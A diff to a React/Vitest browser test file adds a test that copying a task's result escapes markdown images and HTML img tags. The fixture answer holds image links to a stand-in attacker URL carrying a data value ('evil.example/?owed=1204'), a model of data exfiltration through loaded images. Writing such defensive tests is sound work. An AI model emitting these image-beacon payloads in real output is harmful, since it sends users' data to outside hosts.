@@ -1,5 +1,5 @@
 import { useState } from 'react';
-import { afterEach, expect, test } from 'vitest';
+import { afterEach, expect, test, vi } from 'vitest';
 import { page, userEvent } from 'vitest/browser';
 import { textOf } from '../../core/plan/edits.ts';
 import type { Plan } from '../../core/plan/plan.ts';
@@ -207,4 +207,15 @@ test('the plan of a task that is done is kept as a template from its answer, whi
   await expect.element(page.getByText('Saved as a template.')).toBeVisible();
   await expect.element(keep).toHaveFocus();
   expect(kept.map(({ name }) => name)).toEqual(['Lamp']);
+});
+
+test('what is copied of an answer loads nothing where it is pasted', async () => {
+  const task = fixtureTask('t', {}, 0);
+  const owed = 'https://evil.example/?owed=1204';
+  const answer = `It is ![a lamp](${owed}), see <img src="${owed}"> and [it](${owed}).`;
+  shown(task).add({ type: 'task-ended', status: 'completed', result: { inline: answer } });
+  const copied = vi.spyOn(navigator.clipboard, 'writeText').mockResolvedValue();
+  await page.getByRole('region', { name: 'Result' }).getByRole('button', { name: 'Copy the result' }).click();
+  const harmless = `It is !\\[a lamp](${owed}), see < img src="${owed}"> and [it](${owed}).`;
+  expect(copied).toHaveBeenCalledExactlyOnceWith(harmless);
 });
